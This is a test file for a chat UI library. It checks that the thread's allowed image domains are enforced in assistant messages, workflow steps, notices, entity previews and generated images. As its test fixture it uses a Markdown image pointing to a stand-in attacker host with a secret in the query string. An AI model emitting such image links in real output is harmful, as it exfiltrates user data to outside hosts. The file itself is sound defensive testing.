// @vitest-environment jsdom
// The thread's image policy (allowed_image_domains) applies to every place the element
// renders Markdown or an image URL it was sent, not only to assistant messages. jsdom:
// DOMPurify needs a faithful DOM (see sanitize.test.ts).
import { type ComponentChild, render } from "preact";
import { act } from "preact/test-utils";
import { afterEach, describe, expect, it } from "vitest";
import type { GeneratedImageItem, WorkflowItem } from "../src/protocol/types";
import { ChatController } from "../src/state/controller";
import { emptyChat } from "../src/state/reducer";
import { ControllerContext } from "../src/ui/context";
import { EntityPreview } from "../src/ui/EntityPreview";
import { AssistantMessage } from "../src/ui/items/AssistantMessage";
import { GeneratedImageView, NoticeView } from "../src/ui/items/Misc";
import { TaskItemView, WorkflowView } from "../src/ui/items/Workflow";

const GOOD = "https://img.good.test/ok.png";
const EVIL = "https://evil.test/leak.png?secret=42";
const both = `![ok](${GOOD}) ![leak](${EVIL})`;
const base = { thread_id: "thr_1", created_at: "2025-01-01T00:00:00" };

let host: HTMLElement | null = null;
afterEach(() => {
  if (host) render(null, host);
  host?.remove();
  host = null;
});

function controller(allowed: string[] | null): ChatController {
  const c = new ChatController(() => {}, "https://host.test");
  c.setOptions({
    api: { url: "/chatkit", domainKey: "x" },
    entities: {
      onTagSearch: async () => [],
      onRequestPreview: async () => ({
        preview: {
          type: "Basic",
          children: [
            { type: "Markdown", value: both },
            { type: "Image", src: EVIL },
          ],
        },
      }),
    },
  });
  c.chat.value = {
    ...emptyChat(),
    thread: { id: "thr_1", created_at: base.created_at, status: { type: "active" }, allowed_image_domains: allowed },
  };
  return c;
}

async function mount(c: ChatController, ui: ComponentChild): Promise<HTMLElement> {
  host = document.createElement("div");
  document.body.appendChild(host);
  await act(() => render(<ControllerContext.Provider value={c}>{ui}</ControllerContext.Provider>, host!));
  return host;
}

const srcs = (el: HTMLElement): string[] => [...el.querySelectorAll("img")].map((i) => i.getAttribute("src") ?? "");

const thought: WorkflowItem = {
  ...base,
  id: "wf_1",
  type: "workflow",
  workflow: {
    type: "reasoning",
    expanded: true,
    tasks: [
      { type: "thought", title: "Thinking", content: both },
      { type: "custom", title: "Step", content: both },
    ],
  },
};

describe("image policy (allowed_image_domains)", () => {
  const cases: [string, () => ComponentChild][] = [
    [
      "assistant message",
      () => (
        <AssistantMessage
          item={{ ...base, id: "m1", type: "assistant_message", content: [{ type: "output_text", text: both, annotations: [] }] }}
          streaming={false}
        />
      ),
    ],
    ["thought and custom task in a workflow", () => <WorkflowView item={thought} live={false} />],
    [
      "task item",
      () => <TaskItemView item={{ ...base, id: "t1", type: "task", task: { type: "custom", title: "Step", content: both } }} />,
    ],
    ["notice", () => <NoticeView notice={{ level: "info", message: both, afterItemId: null }} />],
  ];
  for (const [name, ui] of cases) {
    it(`drops disallowed images in a ${name}`, async () => {
      const el = await mount(controller(["img.good.test"]), ui());
      expect(srcs(el)).toContain(GOOD);
      expect(srcs(el)).not.toContain(EVIL);
      expect(el.textContent).toContain("leak"); // the alt text stands in
    });
  }

  it("allows any http(s) host when the thread sets no list", async () => {
    const el = await mount(controller(null), <NoticeView notice={{ level: "info", message: both, afterItemId: null }} />);
    expect(srcs(el)).toEqual([GOOD, EVIL]);
  });

  it("applies to entity previews (widget Markdown and Image)", async () => {
    const el = await mount(controller(["img.good.test"]), <EntityPreview entity={{ id: "e1", title: "Ada", interactive: true }} />);
    await expect.poll(() => el.querySelector(".ckw-image-blocked, .ckw-markdown img")).not.toBeNull();
    expect(srcs(el)).toEqual([GOOD]);
    expect(el.querySelector(".ckw-image-blocked")).not.toBeNull();
  });

  it("applies to generated images", async () => {
    const item: GeneratedImageItem = { ...base, id: "g1", type: "generated_image", image: { id: "i1", url: EVIL } };
    const el = await mount(controller(["img.good.test"]), <GeneratedImageView item={item} />);
    expect(srcs(el)).toEqual([]);
  });
});
